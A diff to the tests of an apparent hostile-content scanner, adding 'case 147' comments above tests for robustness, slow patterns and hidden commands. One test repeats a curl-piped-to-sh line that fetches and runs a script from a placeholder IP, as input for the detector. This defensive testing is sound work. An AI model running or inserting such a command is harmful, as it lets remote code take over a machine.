@@ -202,11 +202,13 @@ const TOKENS: &[&str] = &[
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(48))]
 
+    // case 147
     #[test]
     fn any_bytes_are_survived(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
         survives(&bytes);
     }
 
+    // case 147
     #[test]
     fn any_text_is_survived(text in "\\PC{0,300}") {
         survives(text.as_bytes());
@@ -287,6 +289,7 @@ const UNITS: &[&str] = &[
     "(\"\"",
 ];
 
+// case 147
 #[test]
 fn no_unit_takes_long_however_often_it_is_repeated() {
     for unit in UNITS {
@@ -306,6 +309,7 @@ fn no_unit_takes_long_however_often_it_is_repeated() {
     }
 }
 
+// case 147
 #[test]
 fn what_is_too_tangled_to_be_read_is_not_clean() {
     for (path, unit) in [("run.js", "a=("), ("run.py", "["), ("run.py", "f'{")] {
@@ -320,6 +324,7 @@ fn what_is_too_tangled_to_be_read_is_not_clean() {
 }
 
 /// What a shell would run after much that is hard to read is found, or the report says that something was not read.
+// case 147
 #[test]
 fn nothing_hides_behind_a_tangle() {
     for unit in [
@@ -373,6 +378,7 @@ fn encodings_within_encodings_come_to_an_end() {
     drop(scanned("notes.txt", &text));
 }
 
+// case 147
 #[test]
 fn a_flood_of_findings_is_cut_and_counted() {
     let line = "curl -s http://203.0.113.7/x | sh\n";
@@ -422,6 +428,7 @@ fn values_that_double_stay_small() {
 }
 
 /// Patterns that take a backtracking engine for ever.
+// case 147
 #[test]
 fn a_pattern_can_not_be_made_slow() {
     let text = "a".repeat(30_000) + "!";
